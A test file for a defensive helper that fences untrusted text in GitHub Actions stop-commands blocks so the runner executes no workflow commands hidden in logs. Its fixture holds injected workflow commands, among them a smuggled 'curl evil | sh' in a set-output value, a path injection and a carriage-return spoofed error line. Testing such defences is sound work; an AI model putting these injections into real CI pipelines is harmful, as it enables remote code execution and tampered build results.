import { executedCommands } from '../../test/helpers/runner-commands.js'
import { logText, stopCommandsToken, untrustedBlock } from './untrusted.js'

const hostile = [
  'listening on :8080',
  '::set-output name=heap-slope::1; curl evil | sh #',
  '  ::add-mask::',
  'log: ##[add-path]/tmp/evil',
  '::stop-commands::other',
  '::other::',
  'a\r::error file=x::spoofed',
  '::endgroup::'
].join('\n')

describe('untrustedBlock', () => {
  it('keeps the runner from executing any command in the text', () => {
    expect(executedCommands(hostile)).toEqual(['set-output', 'add-mask', 'add-path', 'error', 'endgroup'])
    expect(executedCommands(untrustedBlock(hostile))).toEqual([])
  })

  it('resumes command processing after the text', () => {
    expect(executedCommands(untrustedBlock(hostile) + '\n::set-output name=verdict::pass')).toEqual([
      'set-output'
    ])
  })

  it('shows the text between the two marker lines, without escapes and carriage returns', () => {
    const lines = untrustedBlock(hostile, 'memgate-0123').split('\n')
    expect(lines[0]).toBe('::stop-commands::memgate-0123')
    expect(lines.slice(1, -1).join('\n')).toBe(hostile.replace('\r', ''))
    expect(untrustedBlock('\x1b[31mred\x1b]0;title\x07', 'memgate-0123')).toBe(
      '::stop-commands::memgate-0123\nred\n::memgate-0123::'
    )
    expect(lines.at(-1)).toBe('::memgate-0123::')
  })

  it('takes a new token that cannot be guessed for each call', () => {
    const tokens = new Set(Array.from({ length: 100 }, () => stopCommandsToken()))
    expect(tokens.size).toBe(100)
    for (const token of tokens) expect(token).toMatch(/^memgate-[0-9a-f]{32}$/)
  })
})

describe('logText', () => {
  it('leaves a plain line as it is, without escapes', () => {
    expect(logText('head: load 50 req/s to http://[::1]:8080/')).toBe(
      'head: load 50 req/s to http://[::1]:8080/'
    )
    expect(logText('\x1b[1mhead\x1b[0m: warm-up')).toBe('head: warm-up')
  })

  it('fences a line the runner could read a command in', () => {
    expect(logText('  ::add-mask::y')).toMatch(/^::stop-commands::memgate-[0-9a-f]{32}\n {2}::add-mask::y\n/)
    for (const line of hostile.split('\n'))
      expect(executedCommands(logText(`base: ${line}\n${line}`))).toEqual([])
  })

  it('takes linear time on a long run of blanks', () => {
    const started = performance.now()
    logText(' \t'.repeat(500_000) + '\n'.repeat(500_000) + 'x')
    expect(performance.now() - started).toBeLessThan(500)
  })
})
